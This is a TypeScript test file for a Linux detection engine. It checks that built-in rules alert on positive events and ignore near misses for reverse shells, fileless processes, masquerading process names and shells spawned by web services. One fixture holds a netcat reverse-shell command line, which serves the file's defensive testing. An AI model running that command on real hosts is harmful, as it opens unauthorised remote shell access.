// Built-in Linux rules (rules/builtin): a positive and a near-miss event for each, through the DetectionStage.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { Alert } from '../../src/detect/alerts.ts';
import { loadCompileOptions, loadRuleSources } from '../../src/detect/loader.ts';
import { RuleRegistry } from '../../src/detect/registry.ts';
import { DetectionStage } from '../../src/detect/stage.ts';
import type { PipelineStage } from '../../src/server/pipeline.ts';
import type { VigilEvent } from '../../src/schema/event.ts';

const registry = new RuleRegistry(loadCompileOptions({}));
registry.setSources('builtin', loadRuleSources([join(import.meta.dirname, '../../rules/builtin')]));

let n = 0;
function ev(type: VigilEvent['event']['type'], fields: Partial<VigilEvent>, t = 0, host = 'h1'): VigilEvent {
  return {
    '@timestamp': new Date(Date.UTC(2026, 0, 1) + t * 1000).toISOString(), agent: { id: host, tenant_id: 't1' }, // the host is the reporting agent's
    host: { id: host }, event: { id: `b${++n}`, type }, ...fields,
  };
}
const proc = (executable: string, command_line = executable, parent?: string, name?: string): Partial<VigilEvent> => ({
  process: { executable, command_line, name, entity_id: `p${n}`, parent: parent ? { executable: parent } : undefined },
});

async function titles(events: VigilEvent[]): Promise<string[]> {
  const alerts: Alert[] = [];
  const stage: PipelineStage = new DetectionStage(registry.snapshot(), { write: async (a) => { alerts.push(...a); } });
  await stage.process(events);
  return alerts.map((a) => a.rule.title);
}

test('built-in rules all load', () => {
  assert.deepEqual(registry.rejected(), []);
  assert.equal(registry.list().length, 25);
});

test('DLP findings: alert action only, titled by technique and severity (16 rules)', async () => {
  const finding = (action: 'alert' | 'record', severity: string, mitre: string): VigilEvent => ev('file_write', {
    ...proc('/usr/bin/scp'), event: { id: `b${++n}`, type: 'file_write', action: 'dlp_match' }, file: { path: '/srv/x.csv' },
    dlp: { policy: 'p', rule: 'payment_card', kind: 'detector', matches: 3, action, severity: severity as 'high' }, threat: { mitre: [mitre] },
  });
  assert.deepEqual(await titles([finding('alert', 'high', 'T1048')]), ['DLP Finding (Exfiltration Over Alternative Protocol, high)']);
  assert.deepEqual(await titles([finding('alert', 'low', 'T1052')]), ['DLP Finding (Exfiltration Over Physical Medium, low)']);
  assert.deepEqual(await titles([finding('record', 'high', 'T1048')]), []);
  assert.deepEqual(await titles([ev('file_write', { file: { path: '/srv/x.csv' } })]), []);
});

test('netcat reverse shell', async () => {
  assert.deepEqual(await titles([ev('process_start', proc('/usr/bin/nc', 'nc 10.0.0.1 4444 -e /bin/sh'))]), ['Netcat Reverse Shell']);
  assert.deepEqual(await titles([ev('process_start', proc('/usr/bin/nc', 'nc -zv 10.0.0.1 4444'))]), []);
  assert.deepEqual(await titles([ev('process_start', proc('/usr/bin/func', 'func -e x'))]), []);
});

test('process without an executable on disk', async () => {
  assert.deepEqual(await titles([ev('process_start', proc('/tmp/x (deleted)'))]), ['Process Running Without An Executable On Disk']);
  assert.deepEqual(await titles([ev('memfd_exec', proc('/memfd:payload'))]), ['Process Running Without An Executable On Disk']);
  assert.deepEqual(await titles([ev('process_start', proc('/tmp/deleted'))]), []);
});

test('executable modified while running (temporal_ordered correlation, aliases)', async () => {
  const start = ev('process_start', proc('/opt/app/server'), 0);
  const write = ev('file_write', { file: { path: '/opt/app/server' } }, 60);
  assert.deepEqual(await titles([start, write]), ['Executable Modified While Running']);
  assert.deepEqual(await titles([write, ev('process_start', proc('/opt/app/server'), 120)]), []); // written before it ran
  assert.deepEqual(await titles([start, ev('file_write', { file: { path: '/opt/app/other' } }, 60)]), []);
  assert.deepEqual(await titles([start, ev('file_write', { file: { path: '/opt/app/server' } }, 60, 'h2')]), []); // other host
});

test('suspicious duplicate process names', async () => {
  assert.deepEqual(await titles([ev('process_start', proc('/tmp/.x/sshd'))]), ['System Process Name From An Unexpected Location']);
  assert.deepEqual(await titles([ev('process_start', proc('/usr/sbin/sshd'))]), []);
  const twoExecutables = [ev('process_start', proc('/usr/sbin/cron', 'cron', undefined, 'cron'), 0), ev('process_start', proc('/dev/shm/cron', 'cron', undefined, 'cron'), 10)];
  assert.deepEqual((await titles(twoExecutables)).sort(), ['Same Process Name From Several Executables', 'System Process Name From An Unexpected Location']);
  const sameExecutable = [ev('process_start', proc('/usr/sbin/cron', 'cron', undefined, 'cron'), 0), ev('process_start', proc('/usr/sbin/cron', 'cron', undefined, 'cron'), 10)];
  assert.deepEqual(await titles(sameExecutable), []);
});

test('anomalous parent-child pairs', async () => {
  assert.deepEqual(await titles([ev('process_start', proc('/bin/sh', 'sh -c id', '/usr/sbin/nginx'))]), ['Shell Or Interpreter Spawned By A Network Service']);
  assert.deepEqual(await titles([ev('process_start', proc('/bin/bash', 'bash', '/usr/sbin/php-fpm8.2'))]), ['Shell Or Interpreter Spawned By A Network Service']);
  assert.deepEqual(await titles([ev('process_start', proc('/usr/bin/logrotate', 'logrotate', '/usr/sbin/nginx'))]), []);
  assert.deepEqual(await titles([ev('process_start', proc('/bin/sh', 'sh', '/usr/sbin/cron'))]), []);
});
